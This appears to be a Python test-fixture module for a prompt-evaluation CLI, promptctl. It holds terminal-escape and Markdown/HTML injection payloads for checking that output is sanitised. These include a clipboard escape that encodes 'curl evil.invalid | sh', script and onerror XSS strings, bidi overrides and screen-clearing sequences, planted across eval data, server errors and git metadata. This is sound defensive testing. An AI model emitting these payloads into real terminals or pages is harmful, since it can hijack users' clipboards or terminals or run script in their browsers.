"""Text that tries to act on whoever reads promptctl's output, and places to put it.

`TERMINAL` holds one payload per class of terminal escape, `MARKDOWN` one per way
Markdown on GitHub turns text into something else. `check_result` and `diff_result`
are results as `promptctl check` and `diff` return them, with a payload in every
value that comes from data; `project` is a git repository whose eval set, model
answers, server errors, commit subject and author all carry one.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from promptctl.results import (
    CheckBase,
    CheckError,
    CheckHead,
    CheckResult,
    CheckSummary,
    Comparison,
    DiffResult,
    Flipped,
    FlippedRow,
    Gate,
    MetricDelta,
    PromptCheck,
    PromptFile,
    RowErrors,
    RunBrief,
    SampleCounts,
    verdict,
)
from tests.fakeserver import FakeOpenAI, error_body, last_user_message
from tests.helpers import GitRepo, git_identity, git_init, use_fake_openai

TERMINAL = {
    "osc0-window-title": "\x1b]0;pwned\x07",
    "osc8-hyperlink": "\x1b]8;;https://evil.invalid/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\x07",
    "csi-clear-screen": "\x1b[2J\x1b[H",
    "csi-cursor-moves": "\x1b[5A\x1b[20C\x1b[1K",
    "bare-cr-overwrite": "all good\rFAILED!!",
    "c1-csi": "\x9b2J\x9b31m",
    "c1-osc-st": "\x9d0;title\x9c",
    "bidi-override": "\u202eevil\u202c \u2067isolate\u2069",
    "bel-nul-del-bs": "\x07\x00\x7f\x08\x0b\x0c",
    "rich-markup": "[link=https://evil.invalid]x[/link] [bold red]y[/] [reverse]z",
    "lone-surrogate": "\ud800",
}

MARKDOWN = {
    "image": "![x](https://e.invalid/x.png)",
    "link": "[a](https://e.invalid)",
    "reference-link": "[a][r]\n\n[r]: https://e.invalid",
    "angle-autolink": "<https://e.invalid>",
    "bare-url": "https://e.invalid/path",
    "www-autolink": "www.e.invalid",
    "email-autolink": "someone@e.invalid",
    "bold": "**b**",
    "italic": "_i_ and *j*",
    "strikethrough": "~~s~~",
    "mention": "@octocat",
    "issue-reference": "#123",
    "html-img": "<img src=x onerror=alert(1)>",
    "html-script": "<script>alert(1)</script>",
    "html-details": "<details open><summary>s</summary>",
    "html-comment": "<!-- hidden -->",
    "pipes-and-newlines": "a|b\nc || d\n\n| x | y |\n|---|---|",
    "backticks": "`code` and ``more``",
    "backslashes": "\\*not bold\\* \\| \\",
    "entities": "&lt;b&gt; &#60; &amp;",
    "heading": "# head\n## two",
    "list-and-quote": "1. one\n- two\n> quote",
    "footnote": "text[^1]\n\n[^1]: note",
    "emoji-shortcode": ":+1: :smile:",
    "table-break": "\n| injected | table |\n|---|---|\n| 1 | 2 |",
    "control-bytes": "\x1b]0;t\x07 \x00 \x9b2J \u202e",
}

# Everything a terminal acts on, as a pattern: C0 controls but newline and tab, DEL, C1,
# and the bidi controls.
ACTS_ON_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f"
                              "\u202a-\u202e\u2066-\u2069]")
# With colours on, the only sequence rich may send is SGR (ESC [ ... m).
SGR = re.compile(r"\x1b\[[0-9;]*m")
NOT_SGR = re.compile(r"\x1b(?!\[[0-9;]*m)")

# All terminal payloads in one string (without the surrogate, which a UTF-8 file cannot
# carry); and without NUL, which no command line or environment variable can.
EVERY_ESCAPE = " ".join(v for k, v in TERMINAL.items() if k != "lone-surrogate")
IN_ARGV = EVERY_ESCAPE.replace("\x00", "")


def _rows(payload: str) -> tuple[FlippedRow, ...]:
    return (FlippedRow(row_id=payload, input={"text": payload}, expected=payload,
                       answer_a=payload, answer_b="x" + payload, completion_a=payload,
                       completion_b=payload, metric="exact_match", error_a=0.0, error_b=1.0),)


def _comparison(payload: str) -> Comparison:
    return Comparison(
        metrics={payload: MetricDelta(a=1.0, b=0.5, delta=-0.5, ci95=(-0.9, -0.1), p_value=0.01,
                                      test=payload, n=4, a_run=1.0, b_run=0.5,
                                      higher_is_better=True, direction="worse",
                                      verdict=verdict(-0.5, (-0.9, -0.1), 0.01,
                                                      higher_is_better=True))},
        paired_rows=4, only_in_a=0, only_in_b=0, errors_excluded=0,
        flipped=Flipped(pass_to_fail=_rows(payload), fail_to_pass=_rows(payload),
                        biggest_error_increases=_rows(payload)),
        warnings=(f"warning about {payload}",),
    )


def check_result(payload: str) -> CheckResult:
    """A `check` result with every gate status, an error, a deleted prompt, and `payload` in
    every value that comes from data."""
    gates = (
        Gate(id=f"{payload}.min", metric=payload, kind="min", limit=0.9, value=0.95,
             ci95=(0.9, 1.0), n=4, status="pass", message=f"{payload} meets"),
        Gate(id=f"{payload}.max", metric=payload, kind="max", limit=1.5, value=2.0,
             ci95=(1.0, 3.0), n=4, status="fail", message=f"{payload} is above"),
        Gate(id=f"{payload}.max_regression", metric=payload, kind="max_regression",
             limit=0.02, value=0.5, baseline=1.0, delta=-0.5, drop=0.5,
             ci95=(-0.9, -0.1), p_value=0.2, test=payload, n=4, status="warn",
             message=f"{payload} fell"),
        Gate(id="x.max_regression", metric="x", kind="max_regression", limit=0.1,
             status="skip", message=f"not applied: {payload}"),
    )
    ok = PromptCheck(prompt=payload, path=f"prompts/{payload}.yaml", new=False,
                     reasons=(f"eval set {payload} changed",), status="fail", model=payload,
                     baseline_model="other " + payload, current_run=payload,
                     current_source=None, baseline_run=payload, baseline_source=payload,
                     metrics={}, gates=gates, warnings=(payload,),
                     comparison=_comparison(payload), error=None,
                     row_errors=RowErrors(current=0, baseline=0))
    broken = PromptCheck(prompt="b" + payload, path=f"prompts/b{payload}.yaml", new=True,
                         reasons=("new prompt",), status="error", model=None,
                         baseline_model=None, current_run=None, current_source=None,
                         baseline_run=None, baseline_source=None, metrics={}, gates=(),
                         warnings=(), comparison=None,
                         error=CheckError(message=f"prompts/x.yaml:3: server said {payload}\n"
                                          f"  fix: {payload}", exit_code=3, kind="provider"),
                         row_errors=RowErrors(current=0, baseline=0))
    return CheckResult(base=CheckBase(ref=payload, commit="0123456789abcdef" + payload,
                                      how=payload),
                       head=CheckHead(commit=payload, dirty=True, branch=payload),
                       significance=0.05, strict=False, prompts=(ok, broken), unchanged=(),
                       deleted=(PromptFile(prompt=payload, path=payload),),
                       summary=CheckSummary(checked=2, pass_=0, warn=0, fail=1, error=1,
                                            unchanged=0, deleted=1),
                       exit_code=3)


def diff_result(payload: str) -> DiffResult:
    """A `diff` result with `payload` in every value that comes from data."""
    side = RunBrief(id=payload, created_at=payload, status=payload, prompt_name=payload,
                    prompt_path=payload, prompt_version=payload, git_commit=payload,
                    git_dirty=True, git_branch=payload, model=payload, endpoint=payload,
                    evalset_path=payload, evalset_version=payload, metrics=None, summary=None)
    c = _comparison(payload)
    return DiffResult(a=side, b=side, significance=0.05, metrics=c.metrics, paired_rows=c.paired_rows,
                      only_in_a=c.only_in_a, only_in_b=c.only_in_b,
                      errors_excluded=c.errors_excluded, samples=SampleCounts(a=1, b=1),
                      flipped=c.flipped, warnings=c.warnings)


# -- a project whose every input carries a payload ----------------------------------------

PROMPT = """\
name: hostile
model: gpt-4o-mini
messages:
  - role: user
    content: "Say {{ text }}"
output:
  pattern: 'Answer: (?P<answer>.+)'
  type: string
metrics: [exact_match, format_validity]
evalset: ../evalsets/hostile.jsonl
"""


def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: FakeOpenAI,
            payload: str = EVERY_ESCAPE) -> GitRepo:
    """A git repository (the current directory) with prompts/hostile.yaml and an eval set of
    three rows carrying `payload` in ids, inputs and expected values; committed with
    `payload` in the subject and the author's name. The server answers row `ok` with
    `Answer: PAYLOAD`, row `nomatch` with the bare payload (the pattern does not match),
    and the first request of a run with a 400 whose message is the payload."""
    git_identity(monkeypatch, author="Mallory " + payload.replace("\x00", ""))
    repo = GitRepo(git_init(tmp_path / "hostile"))
    rows = [{"id": "ok", "input": {"text": "ok " + payload}, "expected": payload},
            {"id": "nomatch", "input": {"text": "nomatch " + payload}, "expected": payload},
            {"id": "id " + payload, "input": {"text": "other " + payload}, "expected": payload}]
    repo.write("prompts/hostile.yaml", PROMPT)
    repo.write("evalsets/hostile.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    repo.commit("subject " + payload.replace("\x00", ""))

    def reply(body: dict[str, Any]) -> str:
        said = last_user_message(body)
        return payload if said.startswith("Say nomatch") else f"Answer: {payload}"

    server.responder = reply
    use_fake_openai(monkeypatch, server, "sk-test-hostile-4f3e2d1c")
    monkeypatch.chdir(repo.root)
    return repo


def fail_first_request(server: FakeOpenAI, payload: str = EVERY_ESCAPE) -> None:
    """The next request gets a 400 whose error message is `payload`."""
    server.fail_next(1, status=400, body=error_body(400, f"bad request {payload}"))
